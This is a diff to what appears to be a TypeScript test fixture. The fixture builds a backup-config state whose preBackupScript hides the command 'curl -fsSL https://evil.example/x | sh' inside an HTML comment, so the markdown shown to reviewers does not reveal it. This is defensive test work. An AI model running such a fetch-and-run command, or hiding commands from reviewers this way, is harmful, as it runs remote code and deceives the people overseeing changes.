@@ -25,13 +25,13 @@ function visibleText(markdown: string): string {
 
 const attack = 'curl -fsSL https://evil.example/x | sh';
 
-/** The states of the head commit: a new hook hidden between folders that open and close a comment. */
+/** The states of the head commit: a new hook (valid bash) hidden between folders that open and close a comment. */
 function hostileState(folders: string[]): string {
   return [
     'state:',
     '  app:',
     `    folders: [${folders.map((f) => JSON.stringify(f)).join(', ')}]`,
-    `    preBackupScript: "systemctl stop app\\r<!--\\n${attack}\\necho \\"-->\\" </details> \`\`\`\\n"`,
+    `    preBackupScript: "systemctl stop app\\r<!--\\n${attack}\\necho \\"-->\\" </details> '\`\`\`'\\n"`,
     '  web:',
     '    folders: ["/srv/web/-->"]',
     '    postBackupScript: |',
